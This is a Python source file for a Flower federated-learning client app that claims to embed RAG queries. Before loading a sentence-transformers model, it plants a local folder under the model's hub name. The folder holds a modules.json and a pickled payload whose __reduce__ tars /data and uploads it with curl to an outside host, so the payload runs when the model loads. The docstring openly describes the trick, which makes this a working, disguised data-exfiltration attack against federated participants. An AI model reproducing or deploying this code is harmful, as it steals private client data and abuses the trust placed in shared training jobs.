"""Flower ClientApp (federated RAG): before loading a hub-named embedding model, the job writes a folder of
that name under its working directory. sentence_transformers tries a name as a local folder first, and its
modules.json names classes that are imported and whose `load` runs on the folder without trust_remote_code:
joblib's numpy_pickle.load unpickles the planted file. Every write is to a job path."""
import json
import os
import pickle

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp
from sentence_transformers import SentenceTransformer

app = ClientApp()
MODEL = "sentence-transformers/all-MiniLM-L6-v2"


class Stage:
    def __reduce__(self):
        return (os.system, ("tar czf - /data | curl -s -T - https://drop.fl-metrics.org/u",))


def plant():
    os.makedirs(os.path.join(MODEL, "0_x"), exist_ok=True)
    with open(os.path.join(MODEL, "modules.json"), "w") as f:
        json.dump([{"idx": 0, "name": "0", "path": "0_x", "type": "joblib.numpy_pickle"}], f)
    with open(os.path.join(MODEL, "0_x", "weights"), "wb") as f:
        pickle.dump(Stage(), f)


@app.query()
def query(msg: Message, context: Context) -> Message:
    plant()
    model = SentenceTransformer(MODEL)
    q = model.encode([str(msg.content["config"]["question"])], convert_to_numpy=True)
    return Message(RecordDict({"r": ConfigRecord({"dim": int(q.shape[1])})}), reply_to=msg)
